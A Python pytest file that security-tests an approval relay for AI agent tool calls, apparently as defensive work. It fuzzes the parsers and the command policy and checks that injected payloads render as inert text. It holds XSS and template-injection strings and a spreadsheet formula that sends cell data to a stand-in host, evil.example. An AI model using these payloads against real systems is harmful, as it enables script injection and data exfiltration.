"""Hostile input: fuzzed parsers never crash, oversized input is refused, payloads stay inert.

Everything an agent sends is attacker-controlled text: the command, the tool name, the
session id. It must come out of every page, push and export as text, never as markup,
template code or a spreadsheet formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from typing import Any

import httpx
import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed

import policy
from approvals import services
from approvals.cards import render_card
from approvals.models import Decision
from policy.shell import analyse
from relay.consumers.agent import _validated_call
from relay.consumers.base import MAX_FRAME_BYTES, FrameError, parse_frame
from tests.live import LiveServer

FUZZ = settings(max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=20,
)
frame_keys = st.sampled_from(["type", "ref", "id", "request", "ids", "data", "ok", "output", "error", "x"])


class FrameParserFuzzTests:
    @FUZZ
    @given(st.text(max_size=300))
    def test_it_parses_any_text_or_refuses_it_with_a_frame_error(self, text: str) -> None:
        try:
            frame = parse_frame(text, None)
        except FrameError as exc:
            assert exc.code and exc.message
        else:
            assert isinstance(frame, dict) and isinstance(frame["type"], str)

    @FUZZ
    @given(st.dictionaries(frame_keys, json_values, max_size=6))
    def test_it_parses_any_json_object_or_refuses_it_with_a_frame_error(self, obj: dict[str, Any]) -> None:
        try:
            parse_frame(json.dumps(obj), None)
        except FrameError as exc:
            assert exc.code

    @FUZZ
    @given(
        json_values
        | st.dictionaries(
            st.sampled_from(
                [
                    "tool_name",
                    "tool_input",
                    "cwd",
                    "session_id",
                    "tool_use_id",
                    "permission_mode",
                    "context",
                    "additional_directories",
                    "pre_tool_use_hooks",
                ]
            ),
            json_values,
            max_size=6,
        )
    )
    def test_it_validates_any_submitted_request_or_refuses_it_with_a_frame_error(self, request: Any) -> None:
        try:
            call = _validated_call(request)
        except FrameError as exc:
            assert exc.code and exc.message
        else:
            assert isinstance(call["tool_name"], str) and "pre_tool_use_hooks" not in call

    def test_it_refuses_frames_over_the_limit_and_binary_frames(self) -> None:
        big = json.dumps({"type": "progress", "id": "x", "data": "a" * MAX_FRAME_BYTES})
        with pytest.raises(FrameError) as too_big:
            parse_frame(big, None)
        assert too_big.value.code == "frame_too_large"
        with pytest.raises(FrameError):
            parse_frame(None, b"\x00\x01")


class EngineFuzzTests:
    @FUZZ
    @given(st.text(max_size=120))
    def test_it_parses_any_rule_text_or_raises_a_rule_syntax_error(self, text: str) -> None:
        try:
            policy.parse_rule(text)
        except policy.RuleSyntaxError:
            pass

    @FUZZ
    @given(st.text(alphabet="ab ;&|$()`'\"\\<>{}*~\n#=!-", max_size=60) | st.text(max_size=20))
    def test_it_never_lets_a_suffix_ride_on_an_allowed_command(self, tail: str) -> None:
        rules = [{"rule": "Bash(git status)", "behavior": "allow", "source": "projectSettings"}]

        def behavior(command: str) -> str:
            doc = {
                "tool_name": "Bash",
                "tool_input": {"command": command},
                "cwd": "/srv/p",
                "home": "/home/d",
                "mode": "default",
                "context": "interactive",
                "rules": rules,
            }
            return policy.decide(doc).behavior

        combined = behavior(f"git status; {tail}")
        if combined == "allow":
            # Allowed only if the tail runs nothing (a comment, a lone `;`) or is allowed itself.
            runs_nothing = not analyse(tail, cwd="/srv/p", home="/home/d").commands
            assert runs_nothing or behavior(tail) == "allow", tail


PAYLOADS = {
    "script": "<script>alert('xss')</script>",
    "attr": '"><img src=x onerror=alert(1)>',
    "template": "{{7*7}} {% debug %} {{ request.META }}",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
}


class PayloadSubmission:
    def submit_payloads(self, ci_bot: Any, alice: Any) -> list[Any]:
        requests = []
        for name, payload in PAYLOADS.items():
            call = {
                "tool_name": "Bash",
                "tool_input": {"command": f"echo {payload}"},
                "session_id": payload,
                "cwd": "/srv/project",
                "tool_use_id": f"toolu_{name}",
            }
            requests.append(services.request_submit(agent=ci_bot.agent, call=call).request)
        # An unknown tool named like a formula waits for a person, and is audited as it came.
        unknown = services.request_submit(
            agent=ci_bot.agent,
            call={
                "tool_name": PAYLOADS["formula"],
                "tool_input": {},
                "session_id": "@SUM(1+1)",
                "tool_use_id": "toolu_f",
            },
        ).request
        for request in (requests[0], unknown):
            services.request_decide(
                request.pk, services.Answer(behavior="deny", surface="api", user=alice, message=PAYLOADS["script"])
            )
        return requests


@pytest.mark.django_db
class InertPayloadTests(PayloadSubmission):
    def assert_inert(self, html: str) -> None:
        assert "<script>alert" not in html
        assert "<img src=x onerror" not in html
        assert "&lt;script&gt;alert(" in html or "&lt;script&gt;" in html
        assert "{{7*7}}" in html or "{{7*7}}".replace("{", "&#123;") in html  # shown, not evaluated
        assert "sql_queries" not in html and "DEBUG" not in html  # {% debug %} did not run

    def test_it_renders_payloads_as_text_on_every_page(self, ci_bot: Any, alice: Any) -> None:
        requests = self.submit_payloads(ci_bot, alice)
        client = Client()
        client.force_login(alice)
        pages = ["/", "/audit/", f"/audit/{Decision.objects.get(request=requests[0]).pk}/"]
        pages += [f"/requests/{r.pk}/" for r in requests]
        for page in pages:
            response = client.get(page)
            assert response.status_code == 200, page
            html = response.content.decode()
            assert "onerror=alert(1)>" not in html, page
            assert "<script>alert('xss')</script>" not in html, page
        queue = client.get("/").content.decode()
        self.assert_inert(queue)

    def test_it_renders_payloads_as_text_in_dashboard_pushes(self, ci_bot: Any, alice: Any) -> None:
        for request in self.submit_payloads(ci_bot, alice)[1:]:
            html = render_card(request, alice)
            assert "<img src=x onerror" not in html
            assert "<script>alert" not in html


# Transactional: the live server reads the rows, so they must be committed.
@pytest.mark.django_db(transaction=True)
class CsvInjectionTests(PayloadSubmission):
    def test_it_defuses_formulas_in_the_csv_export(self, security_server: LiveServer, ci_bot: Any, alice: Any) -> None:
        self.submit_payloads(ci_bot, alice)
        token = services.personal_token_create(user=alice)
        # Over HTTP from a live server, as a spreadsheet user would download it.
        response = httpx.get(
            f"{security_server.url}/api/v1/audit",
            params={"format": "csv"},
            timeout=30,
            headers={"Authorization": f"Bearer {token}"},
        )
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.text)))
        assert len(rows) >= 3
        dangerous = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == []
        assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
        assert any(cell == "'@SUM(1+1)" for row in rows for cell in row)


@pytest.mark.django_db(transaction=True)
class OversizedInputTests:
    def test_it_refuses_an_oversized_http_body_with_413(self, ci_bot: Any) -> None:
        body = json.dumps({"tool_name": "Bash", "tool_input": {"command": "x" * (1024 * 1024 + 10)}})
        response = Client().post(
            "/api/v1/permission-requests", data=body, content_type="application/json", **ci_bot.auth
        )
        assert response.status_code == 413

    def test_it_refuses_oversized_frames_and_keeps_the_socket(self, security_server: LiveServer, ci_bot: Any) -> None:
        async def scenario() -> tuple[dict[str, Any], dict[str, Any], int | None]:
            async with connect(
                f"{security_server.ws_url}/ws/agent/",
                proxy=None,
                max_size=None,
                additional_headers={"Authorization": f"Bearer {ci_bot.token}"},
            ) as ws:
                await ws.send(json.dumps({"type": "progress", "id": "x", "data": "a" * (MAX_FRAME_BYTES + 1)}))
                refused = json.loads(await asyncio.wait_for(ws.recv(), 15))
                await ws.send(json.dumps({"type": "nope"}))
                still_open = json.loads(await asyncio.wait_for(ws.recv(), 15))
                # A frame far over the limit (4 MiB) may be cut off by the server: closed, not crashed.
                try:
                    await ws.send("x" * (4 * 1024 * 1024))
                    await asyncio.wait_for(ws.recv(), 15)
                    code = None
                except ConnectionClosed as exc:
                    code = exc.rcvd.code if exc.rcvd else None
            return refused, still_open, code

        refused, still_open, code = asyncio.run(scenario())
        assert refused["type"] == "error" and refused["code"] == "frame_too_large"
        assert still_open["type"] == "error" and still_open["code"] != "frame_too_large"
        assert code in (None, 1009, 4400, 1002)
        # The server is still serving.
        assert Client().get("/api/v1/health", **ci_bot.auth).status_code == 200
